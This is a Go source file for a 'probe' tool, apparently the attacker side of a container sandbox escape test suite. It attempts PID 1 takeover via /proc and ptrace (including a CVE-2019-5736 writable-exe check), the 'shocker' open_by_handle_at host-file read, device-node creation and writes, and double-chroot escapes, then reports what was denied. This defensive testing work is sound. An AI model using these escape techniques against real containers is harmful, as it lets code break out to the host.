// Package main is the command probe, the attacker of the sandbox escape suite
// (internal/sandbox/escape_test.go). It runs inside a RUN step, tries one
// class of escape and prints one line per attempt:
//
//	<attempt> <target>: <verdict> [(<detail>)]
//
// where verdict is "ok" (the attempt worked), "denied" (it failed), "failed"
// (it failed, but not the way the suite wants, e.g. EINVAL where seccomp
// answers EPERM), "skipped" (not attempted, with why) or "info". The test
// decides which verdict each attempt must get; the probe only reports, and
// always exits 0 once it has run.
//
// Usage:
//
//	probe init-takeover
//	probe handles [-victim REL] [-handle TYPE:HEX] PATH...
//	probe dev-mknod b|c MAJOR MINOR [MARKER]
//	probe dev-open [-write MARKER] PATH...
//	probe seccomp
//	probe root-escape [PID...]
//	probe self
//
// It is built with CGO_ENABLED=0, so it is static and runs over busybox.
package main

import (
	"bufio"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: probe init-takeover|handles|dev-mknod|dev-open|seccomp|root-escape|self [args]")
		os.Exit(2)
	}
	cmds := map[string]func([]string){
		"init-takeover": initTakeover,
		"handles":       handles,
		"dev-mknod":     devMknod,
		"dev-open":      devOpen,
		"seccomp":       seccomp,
		"root-escape":   rootEscape,
		"self":          self,
	}
	cmd, ok := cmds[os.Args[1]]
	if !ok {
		fmt.Fprintf(os.Stderr, "probe: unknown attack %q\n", os.Args[1])
		os.Exit(2)
	}
	cmd(os.Args[2:])
}

// report prints one attempt.
func report(attempt, target, verdict, detail string) {
	if detail == "" {
		fmt.Printf("%s %s: %s\n", attempt, target, verdict)
		return
	}
	fmt.Printf("%s %s: %s (%s)\n", attempt, target, verdict, strings.ReplaceAll(detail, "\n", `\n`))
}

// tried reports an attack attempt: any error means it was denied.
func tried(attempt, target string, err error, okDetail string) {
	if err != nil {
		report(attempt, target, "denied", errText(err))
		return
	}
	report(attempt, target, "ok", okDetail)
}

// refused reports a system call seccomp must refuse: EPERM or ENOSYS is a
// denial, another error means the call reached the kernel's own checks.
func refused(target string, err error) {
	switch {
	case err == nil:
		report("deny", target, "ok", "")
	case errors.Is(err, unix.EPERM), errors.Is(err, unix.ENOSYS):
		report("deny", target, "denied", errText(err))
	default:
		report("deny", target, "failed", errText(err))
	}
}

// allowed reports a system call ordinary steps need.
func allowed(target string, err error, detail string) {
	if err != nil {
		report("allow", target, "failed", errText(err))
		return
	}
	report("allow", target, "ok", detail)
}

// errText is the error without the path the target already names.
func errText(err error) string {
	var pe *os.PathError
	if errors.As(err, &pe) {
		return pe.Op + ": " + pe.Err.Error()
	}
	var le *os.LinkError
	if errors.As(err, &le) {
		return le.Op + ": " + le.Err.Error()
	}
	return err.Error()
}

// errnoErr turns a raw system call's errno into an error.
func errnoErr(e unix.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

// initTakeover attacks PID 1 and each of its threads, unless PID 1 is the
// probe itself (runc execs the step's process as PID 1: there is no
// runtime process in the namespace to take over).
func initTakeover([]string) {
	// ptrace requests must come from the thread that attached.
	runtime.LockOSThread()
	names := []string{"exe-readlink", "exe-read", "exe-write", "environ-read", "mem-write",
		"ptrace-attach", "ptrace-seize", "fd-readlink", "fd-open"}
	tids, err := taskIDs(1)
	if err != nil {
		report("init", "/proc/1", "failed", "listing threads: "+errText(err))
	}
	if os.Getpid() == 1 {
		report("init", "/proc/1", "info", "pid 1 is this step's own process")
		for _, n := range names {
			report(n, "/proc/1", "skipped", "pid 1 is this step's own process")
		}
		checkTaskCaps(tids)
		return
	}
	report("init", "/proc/1", "info", fmt.Sprintf("pid 1 is not the step's process: attacking it and its %d threads", len(tids)))

	l, err := os.Readlink("/proc/1/exe")
	tried("exe-readlink", "/proc/1/exe", err, strconv.Quote(l))
	tryOpen("exe-read", "/proc/1/exe", os.O_RDONLY)
	// CVE-2019-5736: a writable handle on the runtime's binary.
	tryOpen("exe-write", "/proc/1/exe", os.O_WRONLY)
	tryRead("environ-read", "/proc/1/environ")
	tryOpen("mem-write", "/proc/1/mem", os.O_RDWR)
	tried("ptrace-attach", "1", ptraceAttach(1), "attached and detached")
	for _, tid := range tids {
		task := fmt.Sprintf("/proc/1/task/%d", tid)
		tryRead("environ-read", task+"/environ")
		tryOpen("mem-write", task+"/mem", os.O_RDWR)
		tried("ptrace-seize", strconv.Itoa(tid), ptraceSeize(tid), "seized and detached")
	}
	attackFDs()
	checkTaskCaps(tids)
}

// taskIDs lists the threads of pid.
func taskIDs(pid int) ([]int, error) {
	ents, err := os.ReadDir(fmt.Sprintf("/proc/%d/task", pid))
	if err != nil {
		return nil, err
	}
	var out []int
	for _, e := range ents {
		if n, err := strconv.Atoi(e.Name()); err == nil {
			out = append(out, n)
		}
	}
	sort.Ints(out)
	return out, nil
}

// tryOpen opens path with flag and closes it at once.
func tryOpen(attempt, path string, flag int) {
	f, err := os.OpenFile(path, flag|unix.O_NONBLOCK, 0)
	if err == nil {
		f.Close()
	}
	tried(attempt, path, err, "opened")
}

// tryRead reads path.
func tryRead(attempt, path string) {
	b, err := os.ReadFile(path)
	tried(attempt, path, err, fmt.Sprintf("read %d bytes", len(b)))
}

// ptraceAttach attaches to pid (which stops it), waits for the stop and
// detaches without a signal, so the target runs on.
func ptraceAttach(pid int) error {
	if err := unix.PtraceAttach(pid); err != nil {
		return err
	}
	var ws unix.WaitStatus
	_, werr := unix.Wait4(pid, &ws, unix.WALL, nil)
	return errors.Join(werr, unix.PtraceDetach(pid))
}

// ptraceSeize seizes tid (which does not stop it), then interrupts, waits
// and detaches.
func ptraceSeize(tid int) error {
	if err := unix.PtraceSeize(tid); err != nil {
		return err
	}
	if err := unix.PtraceInterrupt(tid); err != nil {
		return nil // still seized: the kernel detaches when the probe exits
	}
	var ws unix.WaitStatus
	_, werr := unix.Wait4(tid, &ws, unix.WALL, nil)
	return errors.Join(werr, unix.PtraceDetach(tid))
}

// attackFDs resolves and reopens (read-only: nothing is written through
// them) every descriptor PID 1 holds.
func attackFDs() {
	ents, err := os.ReadDir("/proc/1/fd")
	if err != nil {
		report("fd-list", "/proc/1/fd", "denied", errText(err))
		report("fd-readlink", "/proc/1/fd/*", "denied", "listing: "+errText(err))
		report("fd-open", "/proc/1/fd/*", "denied", "listing: "+errText(err))
		return
	}
	report("fd-list", "/proc/1/fd", "ok", fmt.Sprintf("%d entries", len(ents)))
	for _, e := range ents {
		p := "/proc/1/fd/" + e.Name()
		l, err := os.Readlink(p)
		tried("fd-readlink", p, err, strconv.Quote(l))
		tryOpen("fd-open", p, os.O_RDONLY)
	}
}

// checkTaskCaps reports, per thread of PID 1, any capability in its
// effective, permitted, inheritable or ambient set (and, for the thread
// that starts the step, its bounding set) that the probe's own bounding
// set lacks, and any thread without no_new_privs: a thread holding one is
// a way out for whoever controls it.
func checkTaskCaps(tids []int) {
	self, err := readCaps("/proc/self/status")
	if err != nil {
		report("caps-subset", "/proc/self/status", "failed", errText(err))
		return
	}
	bnd := self["CapBnd"]
	for _, tid := range tids {
		p := fmt.Sprintf("/proc/1/task/%d/status", tid)
		c, err := readCaps(p)
		if err != nil {
			report("caps-subset", p, "failed", errText(err))
			continue
		}
		sets := fmt.Sprintf("CapEff %016x CapPrm %016x CapInh %016x CapAmb %016x CapBnd %016x NoNewPrivs %d",
			c["CapEff"], c["CapPrm"], c["CapInh"], c["CapAmb"], c["CapBnd"], c["NoNewPrivs"])
		held := c["CapEff"] | c["CapPrm"] | c["CapInh"] | c["CapAmb"]
		if tid == 1 {
			// The thread that starts the step: its bounding set is what
			// the step's execve can gain.
			held |= c["CapBnd"]
		}
		if extra := held &^ bnd; extra != 0 {
			report("caps-subset", p, "failed", fmt.Sprintf("%s: %s outside the step's CapBnd %016x", sets, capList(extra), bnd))
			continue
		}
		if c["NoNewPrivs"] != 1 {
			// Without no_new_privs a thread's full bounding set would let an
			// execve gain capabilities; with it, nothing can be gained.
			report("caps-subset", p, "failed", sets+": no no_new_privs")
			continue
		}
		report("caps-subset", p, "ok", sets)
	}
}

// readCaps reads the Cap* lines of a status file.
func readCaps(path string) (map[string]uint64, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	out := map[string]uint64{}
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		k, v, ok := strings.Cut(sc.Text(), ":")
		if !ok || !strings.HasPrefix(k, "Cap") && k != "NoNewPrivs" {
			continue
		}
		base := 16
		if k == "NoNewPrivs" {
			base = 10
		}
		n, err := strconv.ParseUint(strings.TrimSpace(v), base, 64)
		if err != nil {
			return nil, fmt.Errorf("parsing %s: %w", k, err)
		}
		out[k] = n
	}
	if _, ok := out["CapBnd"]; !ok {
		return nil, errors.New("no CapBnd line")
	}
	return out, sc.Err()
}

// capList names the capabilities in mask.
func capList(mask uint64) string {
	names := []string{"CHOWN", "DAC_OVERRIDE", "DAC_READ_SEARCH", "FOWNER", "FSETID", "KILL", "SETGID",
		"SETUID", "SETPCAP", "LINUX_IMMUTABLE", "NET_BIND_SERVICE", "NET_BROADCAST", "NET_ADMIN",
		"NET_RAW", "IPC_LOCK", "IPC_OWNER", "SYS_MODULE", "SYS_RAWIO", "SYS_CHROOT", "SYS_PTRACE",
		"SYS_PACCT", "SYS_ADMIN", "SYS_BOOT", "SYS_NICE", "SYS_RESOURCE", "SYS_TIME", "SYS_TTY_CONFIG",
		"MKNOD", "LEASE", "AUDIT_WRITE", "AUDIT_CONTROL", "SETFCAP", "MAC_OVERRIDE", "MAC_ADMIN",
		"SYSLOG", "WAKE_ALARM", "BLOCK_SUSPEND", "AUDIT_READ", "PERFMON", "BPF", "CHECKPOINT_RESTORE"}
	var out []string
	for i := range 64 {
		if mask&(1<<uint(i)) == 0 {
			continue
		}
		if i < len(names) {
			out = append(out, "CAP_"+names[i])
		} else {
			out = append(out, fmt.Sprintf("cap%d", i))
		}
	}
	return strings.Join(out, ",")
}

// handles is the "shocker" attack: file handles for the files the
// runtime binds in from the host, then open_by_handle_at with the host
// filesystem's root handle to reach any host file from there.
func handles(args []string) {
	fs := flag.NewFlagSet("handles", flag.ExitOnError)
	victim := fs.String("victim", "", "host file to read, relative to its filesystem's root")
	hostHandle := fs.String("handle", "", "the host filesystem's root handle, TYPE:HEX")
	fs.Parse(args)
	// ext4's root: FILEID_INO32_GEN (1), inode 2, generation 0.
	crafted := make([]byte, 8)
	binary.LittleEndian.PutUint32(crafted, 2)
	roots := map[string]unix.FileHandle{"open-root-handle": unix.NewFileHandle(1, crafted)}
	if *hostHandle == "" {
		report("open-host-handle", "-", "skipped", "the test found no host root handle")
	} else {
		h, err := parseHandle(*hostHandle)
		if err != nil {
			report("open-host-handle", *hostHandle, "failed", errText(err))
		} else {
			roots["open-host-handle"] = h
		}
	}
	for _, path := range fs.Args() {
		mountFD, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
		if err != nil {
			report("name-to-handle", path, "failed", "opening: "+errText(err))
			continue
		}
		h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, path, 0)
		if err != nil {
			report("name-to-handle", path, "denied", errText(err))
			report("open-handle", path, "skipped", "no handle")
		} else {
			report("name-to-handle", path, "ok", fmt.Sprintf("type %d, %d bytes", h.Type(), h.Size()))
			fd, err := unix.OpenByHandleAt(mountFD, h, unix.O_RDONLY|unix.O_CLOEXEC)
			if err == nil {
				unix.Close(fd)
			}
			tried("open-handle", path, err, "opened")
		}
		for _, name := range []string{"open-root-handle", "open-host-handle"} {
			if h, ok := roots[name]; ok {
				fd, err := unix.OpenByHandleAt(mountFD, h, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC)
				tried(name, path, err, readVictim(fd, *victim))
			}
		}
		unix.Close(mountFD)
	}
}

// readVictim reads the victim through a descriptor of the host's root,
// and closes it.
func readVictim(rootFD int, victim string) string {
	if rootFD < 0 {
		return ""
	}
	defer unix.Close(rootFD)
	if victim == "" {
		return "got a host root descriptor"
	}
	fd, err := unix.Openat(rootFD, victim, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "got a host root descriptor; victim: " + err.Error()
	}
	f := os.NewFile(uintptr(fd), victim)
	defer f.Close()
	b, err := io.ReadAll(io.LimitReader(f, 256))
	if err != nil {
		return "got a host root descriptor; victim: " + err.Error()
	}
	return "got a host root descriptor; victim reads " + strconv.Quote(string(b))
}

func parseHandle(s string) (unix.FileHandle, error) {
	t, h, ok := strings.Cut(s, ":")
	typ, err := strconv.ParseInt(t, 10, 32)
	if !ok || err != nil {
		return unix.FileHandle{}, fmt.Errorf("bad handle %q", s)
	}
	b, err := hex.DecodeString(h)
	if err != nil {
		return unix.FileHandle{}, fmt.Errorf("bad handle %q: %w", s, err)
	}
	return unix.NewFileHandle(int32(typ), b), nil
}

// devMknod makes a device node in /dev and in /tmp and uses it.
func devMknod(args []string) {
	if len(args) < 3 {
		fmt.Fprintln(os.Stderr, "usage: probe dev-mknod b|c MAJOR MINOR [MARKER]")
		os.Exit(2)
	}
	kind := map[string]uint32{"b": unix.S_IFBLK, "c": unix.S_IFCHR}[args[0]]
	major, err1 := strconv.ParseUint(args[1], 10, 32)
	minor, err2 := strconv.ParseUint(args[2], 10, 32)
	if kind == 0 || err1 != nil || err2 != nil {
		fmt.Fprintf(os.Stderr, "probe: bad device %q\n", args)
		os.Exit(2)
	}
	marker := ""
	if len(args) > 3 {
		marker = args[3]
	}
	for _, dir := range []string{"/dev", "/tmp"} {
		p := filepath.Join(dir, fmt.Sprintf("strata-probe-%s-%d-%d", args[0], major, minor))
		os.Remove(p)
		err := unix.Mknod(p, kind|0o666, int(unix.Mkdev(uint32(major), uint32(minor))))
		tried("mknod", p, err, "")
		if err != nil {
			report("dev-read", p, "denied", "no node: "+errText(err))
			report("dev-write", p, "denied", "no node: "+errText(err))
			continue
		}
		useDevice(p, marker)
		os.Remove(p)
	}
}

// devOpen uses existing device nodes (from a hostile layer).
func devOpen(args []string) {
	fs := flag.NewFlagSet("dev-open", flag.ExitOnError)
	marker := fs.String("write", "", "marker to write to block devices opened for writing")
	fs.Parse(args)
	for _, p := range fs.Args() {
		useDevice(p, *marker)
	}
}

// useDevice reads a device and opens it for writing; a block device
// opened for writing gets marker written at offset 0 (the test checks
// the device's backing file).
func useDevice(path, marker string) {
	f, err := os.OpenFile(path, os.O_RDONLY|unix.O_NONBLOCK, 0)
	if err != nil {
		report("dev-read", path, "denied", errText(err))
	} else {
		b := make([]byte, 32)
		n, rerr := f.Read(b)
		f.Close()
		detail := fmt.Sprintf("opened, read %q", b[:max(n, 0)])
		if rerr != nil {
			detail = "opened, read: " + errText(rerr)
		}
		report("dev-read", path, "ok", detail)
	}
	f, err = os.OpenFile(path, os.O_WRONLY|unix.O_NONBLOCK, 0)
	if err != nil {
		report("dev-write", path, "denied", errText(err))
		return
	}
	defer f.Close()
	fi, _ := f.Stat()
	if marker == "" || fi == nil || fi.Mode()&os.ModeCharDevice != 0 {
		report("dev-write", path, "ok", "opened for writing")
		return
	}
	n, err := f.WriteAt([]byte(marker), 0)
	err = errors.Join(err, f.Sync())
	if err != nil {
		report("dev-write", path, "ok", fmt.Sprintf("opened for writing, wrote %d bytes: %s", n, errText(err)))
		return
	}
	report("dev-write", path, "ok", fmt.Sprintf("opened for writing, wrote %d bytes", n))
}

// seccomp checks the step runs under a filter that refuses what Docker's
// default profile refuses, and allows what ordinary builds need.
func seccomp([]string) {
	seccompStatus()
	for _, c := range deniedCalls() {
		refused(c.name, c.call())
	}
	unshareBusybox()
	for _, c := range allowedCalls() {
		detail, err := c.call()
		allowed(c.name, err, detail)
	}
	// clone3 may be refused with ENOSYS (libcs fall back to clone).
	_, _, e := unix.Syscall(unix.SYS_CLONE3, 0, 0, 0)
	report("clone3", "size-0", "info", "returned "+e.Error())
}

// seccompStatus reports the Seccomp lines of /proc/self/status.
func seccompStatus() {
	b, err := os.ReadFile("/proc/self/status")
	if errors.Is(err, os.ErrNotExist) {
		// No /proc (chroot mode): prctl tells the mode, not the filters.
		mode, perr := unix.PrctlRetInt(unix.PR_GET_SECCOMP, 0, 0, 0, 0)
		verdict := "failed"
		if perr == nil && mode == 2 {
			verdict = "ok"
		}
		report("seccomp", "Seccomp", verdict, fmt.Sprintf("PR_GET_SECCOMP: %d, %v", mode, perr))
		report("seccomp", "Seccomp_filters", "skipped", "no /proc/self/status")
		return
	}
	if err != nil {
		report("seccomp", "mode", "failed", errText(err))
		return
	}
	want := map[string]func(int) bool{"Seccomp": func(n int) bool { return n == 2 }, "Seccomp_filters": func(n int) bool { return n >= 1 }}
	for _, l := range strings.Split(string(b), "\n") {
		k, v, _ := strings.Cut(l, ":")
		ok, found := want[k]
		if !found {
			continue
		}
		delete(want, k)
		v = strings.TrimSpace(v)
		n, err := strconv.Atoi(v)
		verdict := "failed"
		if err == nil && ok(n) {
			verdict = "ok"
		}
		report("seccomp", k, verdict, k+": "+v)
	}
	for k := range want {
		report("seccomp", k, "failed", "no "+k+" line in /proc/self/status")
	}
}

type call struct {
	name string
	call func() error
}

// deniedCalls are the attempts seccomp must refuse. Each is harmless if
// it succeeds: what it creates is closed or undone at once.
func deniedCalls() []call {
	scratch := "/tmp/strata-probe-mnt"
	os.Mkdir(scratch, 0o755)
	fd := func(fd int, err error) error {
		if err == nil {
			unix.Close(fd)
		}
		return err
	}
	raw := func(nr uintptr, a ...uintptr) (int, error) {
		a = append(a, 0, 0, 0, 0, 0, 0)
		r, _, e := unix.Syscall6(nr, a[0], a[1], a[2], a[3], a[4], a[5])
		return int(r), errnoErr(e)
	}
	ret := func(_ int, err error) error { return err }
	return []call{
		{"unshare(CLONE_NEWUSER)", func() error { return forkExec(&syscall.SysProcAttr{Unshareflags: unix.CLONE_NEWUSER}) }},
		{"clone(CLONE_NEWUSER)", func() error { return forkExec(&syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWUSER}) }},
		{"keyctl", func() error {
			_, err := unix.KeyctlInt(unix.KEYCTL_GET_KEYRING_ID, unix.KEY_SPEC_SESSION_KEYRING, 0, 0, 0)
			return err
		}},
		{"add_key", func() error {
			_, err := unix.AddKey("user", "strata-probe", []byte("x"), unix.KEY_SPEC_PROCESS_KEYRING)
			return err
		}},
		{"bpf", func() error {
			attr := [5]uint32{unix.BPF_MAP_TYPE_ARRAY, 4, 4, 1, 0}
			return fd(raw(unix.SYS_BPF, unix.BPF_MAP_CREATE, uintptr(unsafe.Pointer(&attr)), unsafe.Sizeof(attr)))
		}},
		{"perf_event_open", func() error {
			attr := unix.PerfEventAttr{Type: unix.PERF_TYPE_SOFTWARE, Config: unix.PERF_COUNT_SW_CPU_CLOCK,
				Bits: unix.PerfBitDisabled | unix.PerfBitExcludeKernel | unix.PerfBitExcludeHv}
			attr.Size = uint32(unsafe.Sizeof(attr))
			return fd(unix.PerfEventOpen(&attr, 0, -1, -1, unix.PERF_FLAG_FD_CLOEXEC))
		}},
		{"mount", func() error {
			err := unix.Mount("tmpfs", scratch, "tmpfs", 0, "size=4k")
			if err == nil {
				unix.Unmount(scratch, unix.MNT_DETACH)
			}
			return err
		}},
		// scratch is not a mount point: EINVAL unless refused first.
		{"umount2", func() error { return unix.Unmount(scratch, unix.MNT_DETACH) }},
		{"pivot_root", func() error { return unix.PivotRoot("/strata-probe-none", "/strata-probe-none") }},
		{"kexec_load", func() error { return ret(raw(unix.SYS_KEXEC_LOAD, 0, 0, 0, 0)) }},
		{"init_module", func() error { return ret(raw(unix.SYS_INIT_MODULE, 0, 0, 0)) }},
		{"open_by_handle_at", func() error {
			h := unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})
			return fd(unix.OpenByHandleAt(unix.AT_FDCWD, h, unix.O_RDONLY))
		}},
		{"socket(AF_VSOCK)", func() error { return fd(unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)) }},
		{"userfaultfd", func() error {
			const uffdUserModeOnly = 1
			return fd(raw(unix.SYS_USERFAULTFD, unix.O_CLOEXEC|unix.O_NONBLOCK|uffdUserModeOnly))
		}},
		{"personality(0xffff)", func() error {
			old, _, _ := unix.Syscall(unix.SYS_PERSONALITY, 0xffffffff, 0, 0)
			if _, err := raw(unix.SYS_PERSONALITY, 0xffff); err != nil {
				return err
			}
			unix.Syscall(unix.SYS_PERSONALITY, old, 0, 0)
			return nil
		}},
	}
}

// forkExec runs /bin/true with attr and waits for it.
func forkExec(attr *syscall.SysProcAttr) error {
	pid, err := syscall.ForkExec("/bin/true", []string{"true"}, &syscall.ProcAttr{Sys: attr})
	if err != nil {
		return err
	}
	var ws unix.WaitStatus
	if _, err := unix.Wait4(pid, &ws, 0, nil); err != nil {
		return err
	}
	if ws.ExitStatus() != 0 {
		return fmt.Errorf("true exited %v", ws)
	}
	return nil
}

// unshareBusybox runs busybox's unshare -U: a single-threaded C caller
// of unshare(CLONE_NEWUSER).
func unshareBusybox() {
	out, err := exec.Command("/bin/unshare", "-U", "/bin/true").CombinedOutput()
	switch {
	case err == nil:
		report("deny", "unshare-U(busybox)", "ok", "")
	case strings.Contains(string(out), "not permitted"), strings.Contains(string(out), "not implemented"):
		report("deny", "unshare-U(busybox)", "denied", strings.TrimSpace(string(out)))
	default:
		report("deny", "unshare-U(busybox)", "failed", fmt.Sprintf("%v: %s", err, strings.TrimSpace(string(out))))
	}
}

type allowedCall struct {
	name string
	call func() (string, error)
}

// allowedCalls are what every build step needs.
func allowedCalls() []allowedCall {
	return []allowedCall{
		{"personality(0)", func() (string, error) {
			old, _, _ := unix.Syscall(unix.SYS_PERSONALITY, 0xffffffff, 0, 0)
			_, _, e := unix.Syscall(unix.SYS_PERSONALITY, 0, 0, 0)
			unix.Syscall(unix.SYS_PERSONALITY, old, 0, 0)
			return "", errnoErr(e)
		}},
		{"threads", threads},
		{"socket(AF_INET)", func() (string, error) {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
			if err == nil {
				unix.Close(fd)
			}
			return "", err
		}},
		{"fork-exec(busybox)", func() (string, error) {
			out, err := exec.Command("/bin/busybox", "echo", "hi").Output()
			return strings.TrimSpace(string(out)), err
		}},
	}
}

// threads runs goroutines on distinct OS threads.
func threads() (string, error) {
	var mu sync.Mutex
	tids := map[int]bool{unix.Gettid(): true}
	var wg sync.WaitGroup
	start := make(chan struct{})
	for range 4 {
		wg.Go(func() {
			runtime.LockOSThread()
			<-start
			mu.Lock()
			tids[unix.Gettid()] = true
			mu.Unlock()
		})
	}
	close(start)
	wg.Wait()
	if len(tids) < 2 {
		return "", errors.New("all goroutines ran on one thread")
	}
	return fmt.Sprintf("%d threads", len(tids)), nil
}

// rootEscape tries to leave the step's root for the host's: through a
// directory descriptor it was given, through another process of the same
// user it can ptrace (any pid: in chroot mode a step shares strata's PID
// namespace, and a shell that started strata would be a way out) or read
// with process_vm_readv (its parent), and last the classic double chroot
// (needs CAP_SYS_CHROOT), which leaves the probe wherever it got. PIDs
// are tried with ptrace on top of 1-65536 (pid_max may be higher).
func rootEscape(args []string) {
	var root unix.Stat_t
	if err := unix.Stat("/", &root); err != nil {
		report("root", "/", "failed", errText(err))
		return
	}
	dirFDs()
	var extra []int
	for _, a := range args {
		if n, err := strconv.Atoi(a); err == nil {
			extra = append(extra, n)
		}
	}
	ptraceAny(extra)
	ppid := os.Getppid()
	if ppid == 0 {
		report("vm-read-parent", "0", "skipped", "no parent in this PID namespace")
	} else {
		buf := make([]byte, 8)
		local := []unix.Iovec{{Base: &buf[0], Len: 8}}
		remote := []unix.RemoteIovec{{Base: 0x400000, Len: 8}}
		_, err := unix.ProcessVMReadv(ppid, local, remote, 0)
		if err == nil || errors.Is(err, unix.EFAULT) || errors.Is(err, unix.EIO) {
			report("vm-read-parent", strconv.Itoa(ppid), "ok", fmt.Sprintf("access granted (%v)", err))
		} else {
			report("vm-read-parent", strconv.Itoa(ppid), "denied", errText(err))
		}
	}
	doubleChroot(root)
}

// dirFDs reports descriptors beyond 0-2; one of a directory outside the
// root is a way out (fchdir, then ..).
func dirFDs() {
	var open []string
	dirs := 0
	for fd := 3; fd < 1024; fd++ {
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil {
			continue
		}
		open = append(open, fmt.Sprintf("%d:%o", fd, st.Mode&unix.S_IFMT))
		if st.Mode&unix.S_IFMT == unix.S_IFDIR {
			dirs++
		}
	}
	if dirs > 0 {
		report("dir-fd", "3-1023", "ok", fmt.Sprintf("%d directory descriptors: %s", dirs, strings.Join(open, " ")))
		return
	}
	report("dir-fd", "3-1023", "denied", fmt.Sprintf("no directory descriptor (open: %q)", open))
}

// ptraceAny seizes (without stopping it) every pid up to 65536 and those
// of extra, but its own: any success means another process is the step's.
func ptraceAny(extra []int) {
	self := os.Getpid()
	var got []string
	errs := map[string]int{}
	pids := extra
	for pid := 1; pid <= 1<<16; pid++ {
		pids = append(pids, pid)
	}
	for _, pid := range pids {
		if pid == self {
			continue
		}
		err := unix.PtraceSeize(pid)
		switch {
		case err == nil:
			got = append(got, strconv.Itoa(pid))
			unix.PtraceDetach(pid)
		case errors.Is(err, unix.ESRCH):
		default:
			errs[err.Error()]++
		}
	}
	if len(got) > 0 {
		report("ptrace-any", "1-65536", "ok", "seized "+strings.Join(got, ","))
		return
	}
	report("ptrace-any", "1-65536", "denied", fmt.Sprint(errs))
}

// doubleChroot chroots into a new dir, climbs from the working directory
// (still outside it) and chroots there: it got out if / is then another
// directory than the step's root.
func doubleChroot(root unix.Stat_t) {
	dir := "/tmp/strata-probe-chroot"
	os.Mkdir(dir, 0o755)
	if err := unix.Chroot(dir); err != nil {
		report("double-chroot", dir, "denied", errText(err))
		return
	}
	for range 64 {
		unix.Chdir("..")
	}
	err := unix.Chroot(".")
	var now unix.Stat_t
	if serr := unix.Stat("/", &now); serr != nil {
		report("double-chroot", dir, "failed", errText(serr))
		return
	}
	if err == nil && (now.Dev != root.Dev || now.Ino != root.Ino) {
		report("double-chroot", dir, "ok", fmt.Sprintf("out: / is now dev %d inode %d, the step's was dev %d inode %d", now.Dev, now.Ino, root.Dev, root.Ino))
		return
	}
	report("double-chroot", dir, "denied", fmt.Sprintf("chroot allowed, but the root climbed to is the step's own (%v)", err))
}

// self reports the probe's own capability sets (capget, PR_CAPBSET_READ),
// no_new_privs and seccomp mode (prctl), as info lines: chroot mode has no
// /proc/self/status to read them from.
func self([]string) {
	hdr := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var data [2]unix.CapUserData
	if err := unix.Capget(&hdr, &data[0]); err != nil {
		report("self", "capget", "failed", errText(err))
		return
	}
	set := func(lo, hi uint32) uint64 { return uint64(lo) | uint64(hi)<<32 }
	var bnd uint64
	for c := 0; c < 64; c++ {
		if v, err := unix.PrctlRetInt(unix.PR_CAPBSET_READ, uintptr(c), 0, 0, 0); err == nil && v == 1 {
			bnd |= 1 << uint(c)
		}
	}
	var amb uint64
	for c := 0; c < 64; c++ {
		if v, err := unix.PrctlRetInt(unix.PR_CAP_AMBIENT, unix.PR_CAP_AMBIENT_IS_SET, uintptr(c), 0, 0); err == nil && v == 1 {
			amb |= 1 << uint(c)
		}
	}
	nnp, _ := unix.PrctlRetInt(unix.PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0)
	mode, _ := unix.PrctlRetInt(unix.PR_GET_SECCOMP, 0, 0, 0, 0)
	for _, kv := range [][2]string{
		{"CapEff", fmt.Sprintf("%016x", set(data[0].Effective, data[1].Effective))},
		{"CapPrm", fmt.Sprintf("%016x", set(data[0].Permitted, data[1].Permitted))},
		{"CapInh", fmt.Sprintf("%016x", set(data[0].Inheritable, data[1].Inheritable))},
		{"CapBnd", fmt.Sprintf("%016x", bnd)},
		{"CapAmb", fmt.Sprintf("%016x", amb)},
		{"NoNewPrivs", strconv.Itoa(nnp)},
		{"Seccomp", strconv.Itoa(mode)},
	} {
		report("self", kv[0], "info", kv[1])
	}
}
